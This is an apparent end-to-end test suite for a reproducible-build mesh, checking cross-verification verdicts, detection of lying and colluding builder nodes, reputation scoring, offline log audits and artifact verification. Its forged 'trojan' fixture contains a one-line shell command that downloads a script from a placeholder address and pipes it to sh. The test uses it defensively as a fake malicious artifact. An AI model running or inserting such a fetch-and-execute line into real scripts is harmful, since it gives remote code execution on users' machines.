import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { shortKey, type BuilderReputation, type JobView } from '../../src/jobs/index.js'
import type { ArtifactMatch } from '../../src/jobs/index.js'
import type { PeersResponse } from '../../src/node/api/types.js'
import { auditExport, type AuditedJob, type FullAuditReport } from '../../src/node/cli/audit.js'
import { short } from '../../src/node/cli/job-format.js'
import type { VerifyAnswer } from '../../src/node/cli/commands/verify.js'
import { createExecutor } from '../../src/sandbox/index.js'
import { waitFor } from '../../src/util/wait.js'
import { runCli } from '../helpers/cluster.js'
import { tempDir } from '../helpers/temp-home.js'
import { testMesh } from '../helpers/test-mesh.js'
import {
  NODE_QUORUM, PAIR, apiBlob, apiJson, cli, failingJobDir, forgeResult, sha256Hex, startVerifyMesh, trustDir,
  type VerifyMesh
} from './verify-mesh.js'
import { submitDir } from '../helpers/job-dir.js'

const ROOT = fileURLToPath(new URL('../..', import.meta.url))
const HELLO_C = join(ROOT, 'examples', 'hello-c')
const STAMPED = join(ROOT, 'examples', 'nondeterministic')

/** What the liars claim `hello` compiled to: a plausible script that is not the build. */
const TROJAN = Buffer.from('#!/bin/sh\necho "hello, reproducible world"\nwget -qO- http://192.0.2.1/x | sh\n')
const TROJAN_SHA = sha256Hex(TROJAN)

/**
 * One mesh for the whole file (starting it and building five jobs is the
 * expensive part): beforeAll submits every job, lets the liars lie, waits
 * until every node holds the same entries and every job is decided and
 * diagnosed, and exports the log once. Each test then checks one claim of
 * docs/JOBS.md § Verdicts / § Auditing against it.
 */
describe('cross-verification and audit on a real mesh (4 in-process nodes, builds in bubblewrap)', () => {
  const stack: Array<() => unknown> = []
  const teardown = (fn: () => unknown): void => { stack.push(fn) }
  afterAll(async () => {
    while (stack.length > 0) await Promise.resolve(stack.pop()!()).catch(() => {})
  })

  let mesh: VerifyMesh
  let scratch: string
  let exportFile: string
  /** The jobs: reproducible, nondeterministic, failing, one liar, two colluding liars. */
  let repro: JobView
  let stamped: JobView
  let failing: JobView
  let oneLiar: JobView
  let colluding: JobView

  beforeAll(async () => {
    const executor = await createExecutor('bubblewrap')
    mesh = await startVerifyMesh(teardown, executor)
    const { a, c, liar } = mesh
    await waitFor(() => mesh.all.every((n) => n.presence.size >= mesh.all.length - 1), { timeoutMs: 30_000, what: 'the four nodes to hear each other' })
    scratch = await tempDir(teardown, 'buildhaus-e2e-scratch-')

    repro = await submitDir(a, HELLO_C)
    stamped = await submitDir(a, STAMPED)
    failing = await submitDir(c, await failingJobDir(teardown, HELLO_C))
    oneLiar = await submitDir(a, HELLO_C, { name: 'hello-c (one liar)', overrides: { platforms: [PAIR], replicas: 3 } })
    colluding = await submitDir(a, HELLO_C, { name: 'hello-c (two colluding liars)', overrides: { platforms: [PAIR], replicas: 3 } })

    // The lone liar lies as soon as it sees its job: a result for a build it never ran.
    await waitFor(() => liar.jobs.get(oneLiar.id) !== undefined, { timeoutMs: 15_000, what: 'the liar to receive its job' })
    await forgeResult(liar, oneLiar.id, PAIR, TROJAN)
    // The colluding pair lies once a and b have published. Had they lied first, their two agreeing
    // results would meet the nodes' quorum of 2 and close the slot before a and b ran it: a node
    // stops claiming a platform once its own policy decides it, even below `replicas` results.
    const honestPublished = (node: typeof c): boolean => (node.jobs.get(colluding.id)?.platforms[0]!.results.filter((r) => r.status === 'pass').length ?? 0) >= 2
    await waitFor(() => honestPublished(liar) && honestPublished(c), { timeoutMs: 60_000, what: 'a and b to publish the colluding job\'s results' })
    await forgeResult(liar, colluding.id, PAIR, TROJAN)
    await forgeResult(c, colluding.id, PAIR, TROJAN)

    const settled: Array<{ id: string, verdict: string, results: number, diagnosed: boolean }> = [
      { id: repro.id, verdict: 'verified', results: 2, diagnosed: false },
      { id: stamped.id, verdict: 'mismatch', results: 2, diagnosed: true },
      { id: failing.id, verdict: 'failed', results: 2, diagnosed: false },
      { id: oneLiar.id, verdict: 'verified', results: 3, diagnosed: false },
      { id: colluding.id, verdict: 'mismatch', results: 4, diagnosed: true }
    ]
    // What is still missing, for the error message if the deadline passes.
    let missing = ''
    const names = new Map(mesh.all.map((n, i) => [n, ['a', 'b', 'c', 'liar'][i]!]))
    await waitFor(async () => {
      for (const node of mesh.all) {
        if (node.jobs.runningSlots().length > 0) return !(missing = `${names.get(node)} is still building ${node.jobs.runningSlots().join(', ')}`)
        for (const want of settled) {
          const view = node.jobs.get(want.id)
          const latest = view?.platforms[0]!.results.filter((r) => r.latest).length ?? 0
          if (view === undefined || view.verdict !== want.verdict || latest < want.results || (want.diagnosed && view.diagnoses.length === 0)) {
            return !(missing = `${names.get(node)} sees ${view?.name ?? want.id} ${view?.verdict ?? 'not at all'} (${view?.reason ?? ''}) with ${latest} results and ${view?.diagnoses.length ?? 0} diagnoses; want ${JSON.stringify(want)}`)
          }
        }
      }
      const heads = await Promise.all(mesh.all.map(async (n) => JSON.stringify([...await n.ledger.heads()].sort())))
      return heads.every((h) => h === heads[0]) || !(missing = 'the nodes hold different heads')
    }, { timeoutMs: 90_000, intervalMs: 200, what: 'every job to be decided, diagnosed and on all four nodes' }).catch((err: Error) => {
      throw new Error(`${err.message}: ${missing}`)
    })

    exportFile = join(scratch, 'log.ndjson')
    const exported = await cli(['log', 'export', '--api', a.apiUrl, '-o', exportFile])
    expect(exported.code, exported.stderr).toBe(0)
    expect(exported.stderr).toContain(`exported ${a.ledger.count()} entries`)
  }, 150_000)

  /** `audit --json` of the export, under the given flags, as an auditor of the nodes' mesh (the test mesh: all four are founders). */
  async function audit (...flags: string[]): Promise<{ code: number, report: Omit<FullAuditReport, 'views'> }> {
    const run = await cli(['audit', exportFile, '--json', '--mesh', testMesh().file, ...flags])
    expect(run.stderr).toBe('')
    return { code: run.code, report: JSON.parse(run.stdout) as Omit<FullAuditReport, 'views'> }
  }

  function jobOf (report: { jobs: AuditedJob[] }, id: string): AuditedJob {
    const job = report.jobs.find((j) => j.id === id)
    if (job === undefined) throw new Error(`the audit lists no job ${id}`)
    return job
  }

  it('builds a reproducible C program on 2 of 3 builders to verified, with one hash in status --json, the API and the audit', async () => {
    const { a, b, c, liar } = mesh
    const view = await apiJson<JobView>(a, `/api/jobs/${repro.id}`)
    expect(view.verdict).toBe('verified')
    const platform = view.platforms[0]!
    expect(platform).toMatchObject({ selector: 'linux-x64', verdict: 'verified', quorum: 2 })
    // Two builders, or three after a rare duplicate run: all of them agree.
    const latest = platform.results.filter((r) => r.latest)
    expect(latest.length).toBeGreaterThanOrEqual(2)
    expect(platform.agreeing).toBe(latest.length)
    expect(new Set(latest.map((r) => r.builder)).size).toBe(latest.length)
    for (const r of latest) {
      expect([a.author, b.author, c.author]).toContain(r.builder)
      expect(r.status).toBe('pass')
      expect(r.agrees).toBe(true)
      expect(r.artifacts.map((x) => x.path)).toEqual(['hello'])
    }
    const hash = latest[0]!.artifacts[0]!.sha256
    expect(latest.every((r) => r.artifacts[0]!.sha256 === hash)).toBe(true)
    expect(platform.artifacts?.map((x) => [x.path, x.sha256])).toEqual([['hello', hash]])

    // What a user runs, against every builder's API: the same verdict and hash everywhere.
    for (const node of [a, b, c]) {
      const status = await cli(['status', repro.id, '--json', '--api', node.apiUrl])
      expect(status.code, status.stderr).toBe(0)
      const seen = JSON.parse(status.stdout) as JobView
      expect(seen.verdict).toBe('verified')
      expect(seen.platforms[0]!.artifacts?.[0]?.sha256).toBe(hash)
      expect(seen.platforms[0]!.results.filter((r) => r.latest).map((r) => r.artifacts[0]!.sha256)).toEqual(latest.map(() => hash))
    }

    // The offline audit of the export recomputes the same verdict and hash.
    const { code, report } = await audit('--quorum', String(NODE_QUORUM))
    expect(code).toBe(0)
    expect(report.log.valid).toBe(true)
    const audited = jobOf(report, repro.id)
    expect(audited.verdict).toBe('verified')
    expect(audited.platforms[0]!.artifacts).toEqual([{ path: 'hello', sha256: hash, size: latest[0]!.artifacts[0]!.size }])
    expect(audited.platforms[0]!.results.map((r) => r.builder).sort()).toEqual(latest.map((r) => r.builder).sort())

    // The artifact itself can be fetched from any node, even one that never built it.
    expect(sha256Hex(await apiBlob(liar, hash))).toBe(hash)
  })

  it('calls a build that embeds the time and randomness a mismatch naming the file, with a diagnosis report showing the differing lines', async () => {
    const { c, liar } = mesh
    const view = await apiJson<JobView>(c, `/api/jobs/${stamped.id}`)
    expect(view.verdict).toBe('mismatch')
    expect(view.reason).toContain('out/stamp.txt')
    const platform = view.platforms[0]!
    expect(platform.mismatch?.files).toEqual(['out/stamp.txt'])
    // Usually two builders; a third, duplicate run (two nodes deciding from slightly different views) only adds a third hash.
    const groups = platform.mismatch!.groups
    expect(groups.length).toBeGreaterThanOrEqual(2)
    const stamps = groups.map((g) => g.artifacts.find((x) => x.path === 'out/stamp.txt')!.sha256)
    expect(new Set(stamps).size).toBe(groups.length)

    expect(view.diagnoses).toHaveLength(1)
    const diagnosis = view.diagnoses[0]!
    expect(diagnosis).toMatchObject({ platform: 'linux-x64', files: ['out/stamp.txt'] })
    expect(diagnosis.summary).toMatch(/^out\/stamp\.txt: differ/)
    expect(diagnosis.builders).toHaveLength(2)
    const compared = diagnosis.builders.map((builder) => platform.results.find((r) => r.latest && r.builder === builder)!.artifacts[0]!.sha256)

    // `status` links the report (text and --json), and exits 1 for a mismatch.
    const status = await cli(['status', stamped.id, '--api', c.apiUrl])
    expect(status.code).toBe(1)
    expect(status.stdout).toContain('MISMATCH')
    expect(status.stdout).toContain('differing: out/stamp.txt')
    expect(status.stdout).toContain(`report ${c.apiUrl}/api/blobs/${diagnosis.report}`)
    const statusJson = JSON.parse((await cli(['status', stamped.id, '--json', '--api', c.apiUrl])).stdout) as JobView
    expect(statusJson.diagnoses.map((d) => d.report)).toEqual([diagnosis.report])

    // The report, fetched through a node that holds none of it, shows the lines that differ, from both sides.
    const report = (await apiBlob(liar, diagnosis.report)).toString('utf8')
    expect(report).toContain('compared: out/stamp.txt')
    for (const hash of compared) expect(report).toContain(hash)
    const [one, two] = await Promise.all(compared.map(async (h) => (await apiBlob(liar, h)).toString('utf8').split('\n')))
    const differing = [...one!.filter((l) => !two!.includes(l)), ...two!.filter((l) => !one!.includes(l))].filter((l) => l !== '')
    expect(differing.length).toBeGreaterThanOrEqual(2)
    const reportLines = report.split('\n')
    for (const line of differing) expect(reportLines.some((r) => r === `-${line}` || r === `+${line}`), `the report shows ${JSON.stringify(line)}`).toBe(true)
    expect(one!.find((l) => two!.includes(l) && l !== '')).toBe('build info')
    expect(reportLines).toContain(' build info')
  })

  it('outvotes a node that publishes a result for a build it never ran, marks it as disagreeing, and lowers its reputation', async () => {
    const { a, b, liar } = mesh
    const view = await apiJson<JobView>(b, `/api/jobs/${oneLiar.id}`)
    expect(view.verdict).toBe('verified')
    const platform = view.platforms[0]!
    expect(platform).toMatchObject({ selector: PAIR, replicas: 3, quorum: NODE_QUORUM, verdict: 'verified', agreeing: 2 })
    const byBuilder = new Map(platform.results.filter((r) => r.latest).map((r) => [r.builder, r]))
    expect([...byBuilder.keys()].sort()).toEqual([a.author, b.author, liar.author].sort())
    expect(byBuilder.get(a.author)?.agrees).toBe(true)
    expect(byBuilder.get(b.author)?.agrees).toBe(true)
    expect(byBuilder.get(liar.author)).toMatchObject({ agrees: false, status: 'pass', artifacts: [{ path: 'hello', sha256: TROJAN_SHA, size: TROJAN.length }] })
    expect(platform.claims.map((cl) => cl.builder)).not.toContain(liar.author)
    expect(platform.artifacts?.[0]?.sha256).not.toBe(TROJAN_SHA)
    expect(platform.reason).toContain(`outvoted: ${shortKey(liar.author)} (hello)`)

    const status = await cli(['status', oneLiar.id, '--api', a.apiUrl])
    expect(status.code).toBe(0)
    expect(status.stdout).toMatch(new RegExp(`${short(liar.author)}  pass .*\\(disagrees\\)`))

    // Reputation from the log: one lie outvoted (J3), one undecided (the colluding job) → (0+1)/(0+1+2).
    const { builders } = await apiJson<{ builders: BuilderReputation[] }>(a, '/api/reputation')
    const rep = new Map(builders.map((r) => [r.builder, r]))
    expect(rep.get(liar.author)).toMatchObject({ results: 2, agreed: 0, disagreed: 1, undecided: 1 })
    expect(rep.get(liar.author)!.score).toBeCloseTo(1 / 3, 10)
    for (const honest of [a, b]) {
      expect(rep.get(honest.author)?.disagreed).toBe(0)
      expect(rep.get(honest.author)!.score).toBeGreaterThan(0.5)
    }

    const peers = await cli(['peers', '--json', '--api', a.apiUrl])
    expect(peers.code, peers.stderr).toBe(0)
    const rows = new Map((JSON.parse(peers.stdout) as PeersResponse).peers.map((p) => [p.author, p]))
    expect(rows.get(liar.author)?.reputation).toMatchObject({ agreed: 0, disagreed: 1, results: 2 })
    expect(rows.get(liar.author)!.reputation!.score).toBeCloseTo(1 / 3, 10)
    expect(rows.get(a.author)!.reputation!.score).toBeGreaterThan(rows.get(liar.author)!.reputation!.score)
  })

  it('re-judges the export under trust lists exactly as worked out by hand', async () => {
    const { a, b, c, liar } = mesh
    // y: a or b, whichever built the reproducible job (at least one of them did: 2 of the 3 builders did).
    const latestBuilders = async (job: JobView): Promise<string[]> =>
      (await apiJson<JobView>(a, `/api/jobs/${job.id}`)).platforms[0]!.results.filter((r) => r.latest).map((r) => r.builder)
    const reproBuilders = await latestBuilders(repro)
    const y = [a, b].find((n) => reproBuilders.includes(n.author))!
    const x = y === a ? b : a
    // Results left once y is not believed (usually 1 of 2; a rare duplicate run leaves 2).
    const withoutY = async (job: JobView): Promise<number> => (await latestBuilders(job)).filter((builder) => builder !== y.author).length

    const threeBuilders = await trustDir(teardown, { a: a.author, b: b.author, c: c.author })
    const allButY = await trustDir(teardown, { [y === a ? 'b' : 'a']: x.author, c: c.author, liar: liar.author })

    // Hand-computed (docs/JOBS.md § Verdicts), for the jobs:
    //   repro      a|b|c ×2 agree              stamped   2 builders differ      failing   2 builders agree: fail
    //   oneLiar    a, b agree; liar differs    colluding a, b agree; liar and c agree on the trojan
    const cases: Array<{ flags: string[], want: Record<string, string> }> = [
      // The members (all four nodes found the test mesh), quorum = replicas (3 for the pair jobs): the liar alone keeps 2 of 3 from a quorum → mismatch.
      { flags: [], want: { [repro.id]: 'verified', [stamped.id]: 'mismatch', [failing.id]: 'failed', [oneLiar.id]: 'mismatch', [colluding.id]: 'mismatch' } },
      // The nodes' policy: quorum 2 outvotes one liar; two colluding liars make a second quorum → mismatch.
      { flags: ['--quorum', '2'], want: { [repro.id]: 'verified', [stamped.id]: 'mismatch', [failing.id]: 'failed', [oneLiar.id]: 'verified', [colluding.id]: 'mismatch' } },
      // Believing the three building nodes, not the liar node: its vote is gone, c's lie is outvoted by a and b → the colluding mismatch becomes verified.
      { flags: ['--trust', threeBuilders, '--quorum', '2'], want: { [repro.id]: 'verified', [stamped.id]: 'mismatch', [failing.id]: 'failed', [oneLiar.id]: 'verified', [colluding.id]: 'verified' } },
      // The same, quorum = replicas: one-liar has 2 trusted results of the 3 needed → pending; in the colluding
      // job c (trusted here) still keeps a and b from a quorum of 3 → mismatch.
      { flags: ['--trust', threeBuilders], want: { [repro.id]: 'verified', [stamped.id]: 'mismatch', [failing.id]: 'failed', [oneLiar.id]: 'pending', [colluding.id]: 'mismatch' } },
      // Not believing honest y (but believing the liars): repro keeps one trusted result → pending; the pair jobs
      // keep x and the liar(s): one liar ties x (2 ballots < 3 replicas) → pending, two liars reach quorum 2 → the trojan is "verified".
      // (Jobs that had a rare third, duplicate run keep 2 results without y and stay decided.)
      {
        flags: ['--trust', allButY, '--quorum', '2'],
        want: {
          [repro.id]: await withoutY(repro) >= 2 ? 'verified' : 'pending',
          [stamped.id]: await withoutY(stamped) >= 2 ? 'mismatch' : 'pending',
          [failing.id]: await withoutY(failing) >= 2 ? 'failed' : 'pending',
          [oneLiar.id]: 'pending',
          [colluding.id]: 'verified'
        }
      }
    ]
    const reports = new Map<string, Omit<FullAuditReport, 'views'>>()
    for (const { flags, want } of cases) {
      const { code, report } = await audit(...flags)
      expect(code).toBe(0)
      const got = Object.fromEntries(report.jobs.map((j) => [j.id, j.verdict]))
      expect(got, `verdicts under ${flags.join(' ') || 'the default policy'}`).toEqual(want)
      reports.set(flags.join(' '), report)
    }

    // The details a reader sees behind those verdicts.
    const trustBuilders = reports.get(`--trust ${threeBuilders} --quorum 2`)!
    const colludingBuilders = jobOf(trustBuilders, colluding.id).platforms[0]!
    expect(colludingBuilders.artifacts?.[0]?.sha256).not.toBe(TROJAN_SHA)
    expect(colludingBuilders.reason).toContain(`outvoted: ${shortKey(c.author)}`)
    expect(colludingBuilders.results.find((r) => r.builder === liar.author)).toMatchObject({ trusted: false, counted: false, agrees: false })
    expect(trustBuilders.policy).toMatchObject({ trusted: 3, quorum: 2 })
    expect(trustBuilders.reputation.find((r) => r.builder === c.author)?.disagreed).toBe(1)

    const trustAllButY = reports.get(`--trust ${allButY} --quorum 2`)!
    // Verified → pending when only one trusted result remains.
    expect(jobOf(trustAllButY, oneLiar.id).platforms[0]!.reason).toBe('1 of 2 agreeing results; 1 from untrusted builders not counted')
    if (await withoutY(repro) === 1) expect(jobOf(trustAllButY, repro.id).platforms[0]!.reason).toBe('1 of 2 agreeing results; 1 from untrusted builders not counted')
    // Whom a reader believes decides what it sees: trusting the liars over y "verifies" their trojan.
    expect(jobOf(trustAllButY, colluding.id).platforms[0]!.artifacts?.[0]?.sha256).toBe(TROJAN_SHA)

    // The example list in keys/ loads (hex and PEM files, its README skipped) and believes nobody here.
    const example = await audit('--trust', join(ROOT, 'keys', 'example-trust-list'))
    expect(example.code).toBe(0)
    expect(example.report.policy.trusted).toBe(2)
    expect(example.report.verdicts).toEqual({ pending: 5 })

    // The text names the trust list's files beside the keys.
    const text = await cli(['audit', exportFile, '--trust', threeBuilders, '--quorum', '2'])
    expect(text.code).toBe(0)
    expect(text.stdout).toContain(`${short(c.author)} (c)`)
    expect(text.stdout).toContain('believing 3 trusted builders, quorum 2')
    // Under this policy both pair jobs are decided against the liar: (0+1)/(0+2+2).
    expect(text.stdout).toMatch(new RegExp(`${short(liar.author)}\\s+0\\.25\\s+0\\s+2\\s+0\\s+not trusted`))
  })

  it('gives the same verdict for every job and platform from the node API and from an audit of its export', async () => {
    const { a } = mesh
    const { code, report } = await audit('--quorum', String(NODE_QUORUM))
    expect(code).toBe(0)
    expect(report.jobs.map((j) => j.id).sort()).toEqual([repro.id, stamped.id, failing.id, oneLiar.id, colluding.id].sort())
    expect(report.verdicts).toEqual({ verified: 2, mismatch: 2, failed: 1 })
    for (const audited of report.jobs) {
      const api = await apiJson<JobView>(a, `/api/jobs/${audited.id}`)
      expect(audited.verdict).toBe(api.verdict)
      expect(audited.reason).toBe(api.reason)
      expect(audited.platforms.map((p) => [p.selector, p.verdict, p.reason, p.agreeing, p.quorum, p.artifacts])).toEqual(
        api.platforms.map((p) => [p.selector, p.verdict, p.reason, p.agreeing, p.quorum, p.artifacts]))
      expect(audited.diagnoses.map((d) => d.report)).toEqual(api.diagnoses.map((d) => d.report))
    }
    // Stronger: the whole folded view is the same JSON (only decided jobs here; a node overlays
    // `unmatched` on pending ones from live presence, which an export cannot carry).
    const full = await auditExport(exportFile, { quorum: NODE_QUORUM })
    for (const view of full.views) expect(JSON.parse(JSON.stringify(view))).toEqual(await apiJson<JobView>(a, `/api/jobs/${view.id}`))
  })

  it('verify: a downloaded artifact is verified by the node and offline; a tampered copy and the liars\' trojan are not', async () => {
    const { a, b, c, liar } = mesh
    const reproView = await apiJson<JobView>(a, `/api/jobs/${repro.id}`)
    const hash = reproView.platforms[0]!.artifacts![0]!.sha256
    const builders = reproView.platforms[0]!.results.filter((r) => r.latest).map((r) => r.builder).sort()
    const good = join(scratch, 'hello')
    await writeFile(good, await apiBlob(c, hash))
    const tampered = join(scratch, 'hello.tampered')
    const bytes = await readFile(good)
    bytes[bytes.length >> 1] ^= 0x01
    await writeFile(tampered, bytes)
    const trojan = join(scratch, 'hello.trojan')
    await writeFile(trojan, TROJAN)

    // Asking the node (its policy: the members of the test mesh, all four nodes; quorum 2).
    const verified = await cli(['verify', good, '--json', '--api', a.apiUrl])
    expect(verified.code, verified.stderr).toBe(0)
    const answer = JSON.parse(verified.stdout) as VerifyAnswer
    expect(answer).toMatchObject({ sha256: hash, verified: true, judgedBy: { node: a.apiUrl, basis: 'members' } })
    const reproMatch = answer.matches.find((m) => m.job === repro.id)!
    expect(reproMatch).toMatchObject({ platform: 'linux-x64', path: 'hello', builders, verified: true, platformVerdict: 'verified', agreeing: builders.length, quorum: 2 })
    // a and b built the same bytes for the `pair` jobs: verified there too, and in the colluding job only under a mismatch.
    expect(answer.matches.find((m) => m.job === oneLiar.id)).toMatchObject({ builders: [a.author, b.author].sort(), verified: true })
    expect(answer.matches.find((m) => m.job === colluding.id)).toMatchObject({ verified: false, platformVerdict: 'mismatch' })
    const text = await cli(['verify', good, '--api', a.apiUrl])
    expect(text.code).toBe(0)
    expect(text.stdout).toContain('VERIFIED under the node\'s policy')
    expect(text.stdout).toContain(`verified: job ${short(repro.id)} (hello-c), platform linux-x64, as hello`)
    expect(text.stdout).toContain(`built by ${builders.map(short).join(', ')}; ${builders.length} of 2 needed agree, verified since`)

    const bad = await cli(['verify', tampered, '--api', a.apiUrl])
    expect(bad.code).toBe(1)
    expect(bad.stdout).toContain('NOT VERIFIED: no builder in the log published a file with this hash')

    const lie = await cli(['verify', trojan, '--json', '--api', a.apiUrl])
    expect(lie.code).toBe(1)
    const lieAnswer = JSON.parse(lie.stdout) as VerifyAnswer
    expect(lieAnswer.verified).toBe(false)
    expect(lieAnswer.matches.find((m) => m.job === oneLiar.id)).toMatchObject({ builders: [liar.author], platformVerdict: 'verified', agreedSha256: hash, verified: false })
    const lieText = await cli(['verify', trojan, '--api', a.apiUrl])
    expect(lieText.stdout).toContain(`but the platform is verified and the builders agreed on other bytes for hello: sha256 ${hash}`)

    // Offline, from the export and a trust list of the three building nodes (not the liar node).
    const threeBuildersDir = await trustDir(teardown, { a: a.author, b: b.author, c: c.author })
    const offline = await cli(['verify', good, '--log', exportFile, '--mesh', testMesh().file, '--trust', threeBuildersDir, '--quorum', '2', '--json'])
    expect(offline.code, offline.stderr).toBe(0)
    const offlineAnswer = JSON.parse(offline.stdout) as VerifyAnswer
    expect(offlineAnswer.judgedBy).toEqual({ export: exportFile, valid: true, basis: 'list', mesh: 'test', trusted: 3, quorum: 2 })
    expect(offlineAnswer.matches.filter((m) => m.verified).map((m) => m.job).sort()).toEqual([repro.id, oneLiar.id, colluding.id].sort())
    expect((await cli(['verify', tampered, '--log', exportFile, '--trust', threeBuildersDir, '--quorum', '2'])).code).toBe(1)
    const offlineLie = await cli(['verify', trojan, '--log', exportFile, '--trust', threeBuildersDir, '--quorum', '2'])
    expect(offlineLie.code).toBe(1)
    expect(offlineLie.stdout).toContain(`claimed by ${short(liar.author)} (not trusted)`)
    // --job narrows the answer to one job.
    const narrowed = JSON.parse((await cli(['verify', good, '--log', exportFile, '--mesh', testMesh().file, '--job', repro.id, '--json'])).stdout) as { matches: ArtifactMatch[] }
    expect(narrowed.matches.map((m) => m.job)).toEqual([repro.id])

    // The binary itself, as a user runs it: the exit code says it.
    const real = await runCli(['verify', good, '--log', exportFile, '--trust', threeBuildersDir, '--quorum', '2'])
    expect(real.code, real.stderr).toBe(0)
    expect((await runCli(['verify', tampered, '--log', exportFile, '--trust', threeBuildersDir, '--quorum', '2'])).code).toBe(1)
  })

  it('audit: one flipped byte in an export line → exit 1 naming the line, and how far the author\'s chain still holds', async () => {
    const { liar } = mesh
    const lines = (await readFile(exportFile, 'utf8')).split('\n')
    // The liar's second entry (its forged result for the colluding job): change one hex digit of the hash it claims.
    const index = lines.findIndex((l) => l.includes(`"author":"${liar.author}"`) && l.includes(`"job":"${colluding.id}"`) && l.includes('"type":"result"'))
    expect(index).toBeGreaterThan(0)
    const line = lines[index]!
    const at = line.indexOf(TROJAN_SHA) + 10
    const flipped = line.slice(0, at) + (line[at] === '0' ? '1' : '0') + line.slice(at + 1)
    lines[index] = flipped
    const tamperedFile = join(scratch, 'tampered.ndjson')
    await writeFile(tamperedFile, lines.join('\n'))
    const lineNo = index + 1
    const seq = (JSON.parse(line) as { seq: number }).seq
    expect(seq).toBe(1)

    const run = await runCli(['audit', tamperedFile])
    expect(run.code, run.stderr).toBe(1)
    expect(run.stdout).toContain(`log ${tamperedFile}: INVALID`)
    expect(run.stdout).toContain(`line ${lineNo}: bad-signature — a result by ${short(liar.author)} seq ${seq}`)
    expect(run.stdout).toContain(`author ${short(liar.author)}: broken from line ${lineNo} (bad-signature); its chain is proven up to seq ${seq - 1}`)

    const { problems } = (JSON.parse((await cli(['audit', tamperedFile, '--json'])).stdout) as FullAuditReport).log
    expect(problems[0]).toMatchObject({ line: lineNo, kind: 'bad-signature', author: liar.author, seq })
  })
})
